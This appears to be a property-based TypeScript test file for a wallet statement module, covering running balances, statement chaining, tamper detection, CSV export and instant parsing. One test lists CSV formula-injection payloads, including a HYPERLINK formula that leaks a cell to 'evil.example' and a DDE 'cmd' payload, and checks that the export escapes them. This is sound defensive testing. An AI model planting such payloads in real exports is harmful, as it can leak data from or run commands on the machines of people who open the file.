import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { statementCsv } from '../../src/api/statement-csv.js';
import { canonicalInstant } from '../../src/instant.js';
import {
  StatementChainBroken,
  buildStatement,
  statementOf,
  type ChainEntry,
  type Holdings,
} from '../../src/funds/statement.js';
import { WRITTEN, writtenEntry, type WrittenShape } from '../support/written-entries.js';
import { formatAmount } from '../../src/money/index.js';

/**
 * Statements (src/funds/statement.ts), as properties over random wallet histories: any
 * sequence of entries of every type, instants rising with ties, cut at random instants
 * (inside, between, before and after the entries). The running values are made the way
 * the database makes them (the prefix sums along the wallet's order), then:
 * opening + the lines = closing, the totals say the same, consecutive statements chain,
 * and together the statements hold every entry of their span once, in order.
 */

const RUNS = 1000;
const START = Date.parse('2026-12-01T00:00:00Z');

/** A canonical instant some microseconds after START. */
function instant(micros: number): string {
  const ms = START + Math.floor(micros / 1000);
  return `${new Date(ms).toISOString().slice(0, 23)}${String(micros % 1000).padStart(3, '0')}Z`;
}

const amount = fc.bigInt({ min: 1n, max: 10_000_000_000n });
const step = fc.record({
  shape: fc.constantFrom(...WRITTEN),
  magnitude: amount,
  /** microseconds after the entry before: 0 is a tie (entries of one statement share an instant) */
  gap: fc.oneof(fc.constant(0), fc.integer({ min: 1, max: 5_000_000 })),
  reference: fc.option(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('pay,1', 'say "hi"', 'two\r\nlines', '')), { nil: null }),
  /** the category of the grant it names; null: none (the debt, or an entry from before grants) */
  grantCategory: fc.constantFrom('paid', 'promotional', null),
});

/** The wallet's order: amounts signed from the wallet's side as the entries list signs them; running values as the database stores them. */
type Step = {
  shape: WrittenShape;
  magnitude: bigint;
  gap: number;
  reference: string | null;
  grantCategory: 'paid' | 'promotional' | null;
};

function chainOf(steps: Step[]): ChainEntry[] {
  let held: Holdings = { balance: 0n, reserved: 0n };
  let at = 0;
  return steps.map((s, i) => {
    at += s.gap;
    const { entryType, amount: signed, change } = writtenEntry(s.shape, s.magnitude);
    held = { balance: held.balance + change.balance, reserved: held.reserved + change.reserved };
    return {
      id: `entry-${i + 1}`,
      sequence: BigInt(i + 1),
      createdAt: instant(at),
      entryType,
      jobId: entryType === 'credit' ? null : `job-${i % 7}`,
      settlementKey: `t:job-${i % 7}:${entryType}:1`,
      reference: s.reference,
      grantId: s.grantCategory === null ? null : `grant-${s.grantCategory}`,
      grantCategory: s.grantCategory,
      amount: signed,
      change,
      balanceAfter: held.balance,
      reservedAfter: held.reserved,
    };
  });
}

const history = fc.record({
  steps: fc.array(step, { maxLength: 60 }),
  /** cut instants, microseconds after START: sorted and distinct below */
  cuts: fc.uniqueArray(fc.integer({ min: 0, max: 200_000_000 }), { minLength: 2, maxLength: 6 }),
});

const plus = (a: Holdings, b: Holdings): Holdings => ({ balance: a.balance + b.balance, reserved: a.reserved + b.reserved });

describe('a statement', () => {
  it(`opening + lines = closing; the totals agree; consecutive statements chain and hold every entry once (${RUNS} histories)`, () => {
    fc.assert(
      fc.property(history, ({ steps, cuts }) => {
        const chain = chainOf(steps);
        const bounds = [...cuts].sort((a, b) => a - b).map(instant);
        const statements = bounds.slice(1).map((to, i) => statementOf(chain, bounds[i]!, to));
        for (const [i, s] of statements.entries()) {
          const summed = s.lines.reduce((held, line) => plus(held, line.change), s.opening);
          expect(s.closing).toEqual(summed);
          const totals = s.totals.reduce((held, t) => plus(held, { balance: t.balanceChange, reserved: t.reservedChange }), s.opening);
          expect(s.closing).toEqual(totals);
          expect(s.totals.reduce((n, t) => n + t.count, 0)).toBe(s.lines.length);
          for (const t of s.totals)
            expect(t.amount).toBe(s.lines.filter((l) => l.entryType === t.entryType).reduce((sum, l) => sum + l.amount, 0n));
          // By category: every line counted once, and the same changes as by type.
          expect(s.categoryTotals.map((c) => c.category)).toEqual(['paid', 'promotional', 'unassigned']);
          expect(s.categoryTotals.reduce((n, c) => n + c.count, 0)).toBe(s.lines.length);
          expect(
            s.categoryTotals.reduce((held, c) => plus(held, { balance: c.balanceChange, reserved: c.reservedChange }), s.opening),
          ).toEqual(s.closing);
          for (const c of s.categoryTotals) {
            const own = s.lines.filter((l) => (l.grantCategory ?? 'unassigned') === c.category);
            expect(c.count).toBe(own.length);
            // a grant's debt repayment moves its category down and the debt up
            const repaid = (category: string | null) =>
              s.lines
                .filter((l) => l.entryType === 'debt_repayment' && l.grantCategory === category)
                .reduce((sum, l) => sum + l.amount, 0n);
            const moved = own.reduce((sum, l) => sum + l.change.balance, 0n);
            const expected = c.category === 'unassigned' ? moved + repaid('paid') + repaid('promotional') : moved - repaid(c.category);
            expect(c.balanceChange).toBe(expected);
            expect(c.reservedChange).toBe(own.reduce((sum, l) => sum + l.change.reserved, 0n));
          }
          if (s.lines.length > 0)
            expect(s.closing).toEqual({ balance: s.lines.at(-1)!.balanceAfter, reserved: s.lines.at(-1)!.reservedAfter });
          if (i > 0) expect(s.opening).toEqual(statements[i - 1]!.closing);
        }
        // Together: every entry of [first cut, last cut) once, in the wallet's order.
        const span = chain.filter((e) => e.createdAt >= bounds[0]! && e.createdAt < bounds.at(-1)!);
        expect(statements.flatMap((s) => s.lines)).toEqual(span);
        // From the wallet's first instant on, the opening is nothing; after its last entry, the closing is all of it.
        const everything = statementOf(chain, instant(0), instant(10_000_000_000));
        expect(everything.opening).toEqual({ balance: 0n, reserved: 0n });
        expect(everything.closing).toEqual(
          chain.length ? { balance: chain.at(-1)!.balanceAfter, reserved: chain.at(-1)!.reservedAfter } : { balance: 0n, reserved: 0n },
        );
      }),
      { numRuns: RUNS },
    );
  });

  it(`refuses to print a running balance its lines contradict (${RUNS} histories)`, () => {
    fc.assert(
      fc.property(
        fc.array(step, { minLength: 1, maxLength: 40 }),
        fc.nat(),
        fc.bigInt({ min: -1000n, max: 1000n }).filter((d) => d !== 0n),
        (steps, pick, delta) => {
          const chain = chainOf(steps);
          const broken = pick % chain.length;
          const tampered = chain.map((e, i) => (i === broken ? { ...e, balanceAfter: e.balanceAfter + delta } : e));
          expect(() => buildStatement({ from: instant(0), to: instant(10_000_000_000) }, null, tampered)).toThrow(StatementChainBroken);
        },
      ),
      { numRuns: RUNS },
    );
  });

  it(`as CSV: the same opening, lines, closing and totals, whatever a reference holds (${RUNS / 4} histories)`, () => {
    fc.assert(
      fc.property(history, ({ steps, cuts }) => {
        const chain = chainOf(steps);
        const [from, to] = [Math.min(...cuts), Math.max(...cuts)].map(instant) as [string, string];
        const s = statementOf(chain, from, to);
        const rows = parse(statementCsv(s), { columns: true }) as Record<string, string>[];
        expect(rows.map((r) => r.row)).toEqual(['opening', ...s.lines.map(() => 'entry'), 'closing', ...s.totals.map(() => 'total')]);
        expect(rows[0]).toMatchObject({
          created_at: from,
          balance_after: formatAmount(s.opening.balance),
          reserved_after: formatAmount(s.opening.reserved),
        });
        expect(
          rows
            .filter((r) => r.row === 'entry')
            .map((r) => [r.entry_id, r.created_at, r.entry_type, r.reference, r.amount, r.balance_after, r.available_after]),
        ).toEqual(
          s.lines.map((l) => [
            l.id,
            l.createdAt,
            l.entryType,
            spreadsheetText(l.reference ?? ''),
            formatAmount(l.amount),
            formatAmount(l.balanceAfter),
            formatAmount(l.balanceAfter - l.reservedAfter),
          ]),
        );
        expect(rows.filter((r) => r.row === 'total').map((r) => [r.entry_type, r.count, r.amount])).toEqual(
          s.totals.map((t) => [t.entryType, String(t.count), formatAmount(t.amount)]),
        );
        // The entry rows' changes add up to closing − opening (their amounts do not); so do the total rows'.
        const sum = (kind: string, column: string) =>
          rows.filter((r) => r.row === kind).reduce((total, r) => total + micros(r[column]!), 0n);
        const [opening, closing] = [rows.find((r) => r.row === 'opening')!, rows.find((r) => r.row === 'closing')!];
        for (const kind of ['entry', 'total']) {
          for (const column of ['balance', 'reserved', 'available'])
            expect(sum(kind, `${column}_change`)).toBe(micros(closing[`${column}_after`]!) - micros(opening[`${column}_after`]!));
        }
      }),
      { numRuns: RUNS / 4 },
    );
  });
});

/** A decimal string of the CSV as micro-units (an empty cell is none). */
function micros(text: string): bigint {
  if (text === '') throw new Error('an empty amount cell');
  const negative = text.startsWith('-');
  const [whole, fraction = ''] = text.replace('-', '').split('.');
  const value = BigInt(whole!) * 1_000_000n + BigInt(fraction.padEnd(6, '0'));
  return negative ? -value : value;
}

/** What a reference becomes in the CSV: text that would start a formula gets a leading quote (csv-stringify's escape_formulas). */
const spreadsheetText = (text: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text);

describe('a statement as CSV, opened in a spreadsheet', () => {
  const entry = (step: Partial<Step>): Step => ({
    shape: WRITTEN[0]!,
    magnitude: 150n,
    gap: 1,
    reference: null,
    grantCategory: null,
    ...step,
  });

  it('shows a reference that would run as a formula as text: a leading quote, then the reference as written', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ];
    const chain = chainOf([...hostile, 'pay_123 = 4 - 1', 'refund -5'].map((reference) => entry({ reference })));
    const rows = parse(statementCsv(statementOf(chain, instant(0), instant(1_000))), { columns: true }) as Record<string, string>[];
    expect(rows.filter((r) => r.row === 'entry').map((r) => r.reference)).toEqual([
      ...hostile.map((r) => `'${r}`),
      'pay_123 = 4 - 1',
      'refund -5',
    ]);
  });

  it('keeps a negative amount a number: -0.000150 unquoted and unescaped, as every amount and count', () => {
    const chain = chainOf([entry({ shape: WRITTEN.find((w) => w.type === 'adjustment' && w.wallet === 'debit')!, reference: '-0.000150' })]);
    const csv = statementCsv(statementOf(chain, instant(0), instant(1_000)));
    expect(csv.split('\r\n')).toEqual([
      'row,created_at,entry_type,job_id,settlement_key,reference,amount,balance_after,reserved_after,available_after,sequence,entry_id,count,balance_change,reserved_change,available_change',
      `opening,${instant(0)},,,,,,0.000000,0.000000,0.000000,,,,,,`,
      // the amounts are numbers; the same characters as a reference are text, and escaped
      `entry,${instant(1)},adjustment,job-0,t:job-0:adjustment:1,'-0.000150,-0.000150,-0.000150,0.000000,-0.000150,1,entry-1,,-0.000150,0.000000,-0.000150`,
      `closing,${instant(1_000)},,,,,,-0.000150,0.000000,-0.000150,,,,,,`,
      'total,,adjustment,,,,-0.000150,,,,,,1,-0.000150,0.000000,-0.000150',
      '',
    ]);
  });
});

describe('canonicalInstant', () => {
  it.each([
    ['2026-12-01T10:00:00Z', '2026-12-01T10:00:00.000000Z'],
    ['2026-12-01T10:00Z', '2026-12-01T10:00:00.000000Z'],
    ['2026-12-01T10:00:00.5Z', '2026-12-01T10:00:00.500000Z'],
    ['2026-12-01T10:00:00.123456+02:00', '2026-12-01T08:00:00.123456Z'],
    ['2026-12-31T23:30:00.000001-01:00', '2027-01-01T00:30:00.000001Z'],
    ['2026-12-01t10:00:00z', '2026-12-01T10:00:00.000000Z'],
  ])('%s → %s', (text, canonical) => {
    expect(canonicalInstant(text)).toBe(canonical);
  });

  it.each([
    '2026-02-31T00:00:00Z',
    '2026-12-01T24:00:00Z',
    '2026-12-01T10:00:60Z',
    '2026-12-01T10:00:00.1234567Z',
    '2026-12-01 10:00:00Z',
    '2026-12-01T10:00:00',
    '0000-01-01T00:00:00Z',
    '2026-12-01T10:00:00+24:00',
    'yesterday',
  ])('refuses %s', (text) => {
    expect(canonicalInstant(text)).toBeNull();
  });

  it(`orders as the instants do (${RUNS} pairs)`, () => {
    const text = fc
      .tuple(fc.integer({ min: 0, max: 4_000_000_000 }), fc.integer({ min: 0, max: 999_999 }), fc.integer({ min: -14 * 60, max: 14 * 60 }))
      .map(([seconds, micros, offset]) => {
        const local = new Date((seconds + offset * 60) * 1000).toISOString().slice(0, 19);
        const zone =
          offset === 0
            ? 'Z'
            : `${offset < 0 ? '-' : '+'}${String(Math.floor(Math.abs(offset) / 60)).padStart(2, '0')}:${String(Math.abs(offset) % 60).padStart(2, '0')}`;
        return { text: `${local}.${String(micros).padStart(6, '0')}${zone}`, at: BigInt(seconds) * 1_000_000n + BigInt(micros) };
      });
    fc.assert(
      fc.property(text, text, (a, b) => {
        const [x, y] = [canonicalInstant(a.text)!, canonicalInstant(b.text)!];
        expect(x < y ? -1 : x > y ? 1 : 0).toBe(a.at === b.at ? 0 : a.at < b.at ? -1 : 1);
      }),
      { numRuns: RUNS },
    );
  });
});
